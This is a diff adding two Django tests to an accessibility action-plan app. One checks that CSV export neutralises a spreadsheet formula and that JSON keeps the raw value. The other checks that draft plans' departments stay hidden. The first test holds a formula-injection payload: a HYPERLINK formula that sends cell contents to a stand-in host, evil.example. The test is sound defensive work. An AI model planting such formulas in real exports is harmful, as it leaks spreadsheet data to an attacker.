@@ -170,3 +170,25 @@ def test_de_actiepagina_toont_tijdlijn_advies_en_herkomst(client):
         "Deze actie begon in Actieplan Toegankelijkheid 2030-2031"
         in client.get(reverse("toegankelijkheid:actie", args=[kopie.sleutel])).text
     )
+
+
+def test_een_formule_in_een_actie_wordt_in_de_csv_gewone_tekst(client):
+    actieplan = plan()
+    actie = actieplan.acties.get()
+    actie.partners = '=HYPERLINK("http://evil.example/?"&A1,"Meer info")'
+    actie.save()
+    csv_tekst = client.get(reverse("toegankelijkheid:acties-csv", args=[actieplan.slug])).content.decode(
+        "utf-8-sig"
+    )
+    assert next(csv.DictReader(io.StringIO(csv_tekst)))["partners"].startswith("'=HYPERLINK")
+    gegevens = json.loads(client.get(reverse("toegankelijkheid:acties-json", args=[actieplan.slug])).content)
+    assert gegevens["acties"][0]["partners"].startswith("=HYPERLINK")  # the JSON as written
+
+
+def test_de_dienstenlijst_noemt_geen_diensten_van_een_plan_in_ontwerp(client):
+    from tests.toegankelijkheid.factories import organisatie
+
+    zichtbaar = plan()
+    plan(gepubliceerd=False, trekker=organisatie("Juridische Dienst"))
+    pagina = client.get(reverse("toegankelijkheid:acties", args=[zichtbaar.slug])).text
+    assert "Juridische Dienst" not in pagina and "Facility Management" in pagina
